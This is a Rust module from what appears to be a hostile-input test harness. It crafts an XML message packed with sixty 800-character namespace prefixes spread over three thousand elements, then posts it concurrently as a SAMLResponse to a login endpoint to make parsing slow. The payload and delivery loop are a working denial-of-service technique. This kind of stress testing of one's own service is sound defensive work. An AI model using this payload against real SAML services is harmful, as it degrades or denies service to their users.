//! Row 4: XML that takes longer to read than an honest message of its size.

use std::sync::Arc;
use std::time::{Duration, Instant};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use tokio::task::JoinSet;
use url::form_urlencoded::Serializer;

use crate::siege::Form;
use crate::siege::field::Field;
use crate::siege::hostile::{Answers, Beginner, exchange, post};
use crate::siege::rows::Sent;

/// Each answer takes a login that was begun for it.
pub(super) async fn attack(field: &Field, form: Form) -> Sent {
    let xml = many_prefixes();
    let message = Arc::new(STANDARD.encode(&xml));
    let answers = answer_logins(field, form, move |_| message.to_string()).await;
    let what = format!("{} octets of XML, {WORKERS} at a time: {answers}", xml.len());
    Sent { what, wrong: vec![] }
}

/// Begins logins and answers each with what `message` makes of it, some at a time.
pub(super) async fn answer_logins(
    field: &Field,
    form: Form,
    message: impl Fn(&crate::siege::hostile::Begun) -> String + Send + Sync + 'static,
) -> Answers {
    let end = Instant::now() + form.of(Duration::from_secs(20), Duration::from_secs(4));
    let (beginner, message) = (Arc::new(Beginner::at(field)), Arc::new(message));
    let to = field.address();
    let mut workers = JoinSet::new();
    for _ in 0..WORKERS {
        let (beginner, message) = (beginner.clone(), message.clone());
        workers.spawn(async move {
            let (mut statuses, mut open) = (vec![], None);
            while Instant::now() < end {
                let Some(begun) = beginner.begin().await else {
                    statuses.push(None);
                    continue;
                };
                let form = [("SAMLResponse", &message(&begun)), ("RelayState", &begun.relay_state)];
                let form = Serializer::new(String::new()).extend_pairs(form).finish();
                let request = post("/saml/idp/acs", &begun.cookie, &form);
                statuses.push(exchange(&mut open, to, &request).await);
            }
            statuses
        });
    }
    let mut answers = Answers::default();
    for status in workers.join_all().await.into_iter().flatten() {
        answers.add(status);
    }
    answers
}

/// Sixty prefixes of 800 characters, all in scope of three thousand elements.
fn many_prefixes() -> String {
    let declared =
        (0..60).map(|number| format!(" xmlns:{}{number}=\"u:{number}\"", "p".repeat(798)));
    let declared = declared.collect::<Vec<_>>().concat();
    format!("<a{declared}>{}</a>", "<a xmlns:z=\"z:\"/>".repeat(3_000))
}

const WORKERS: usize = 4;
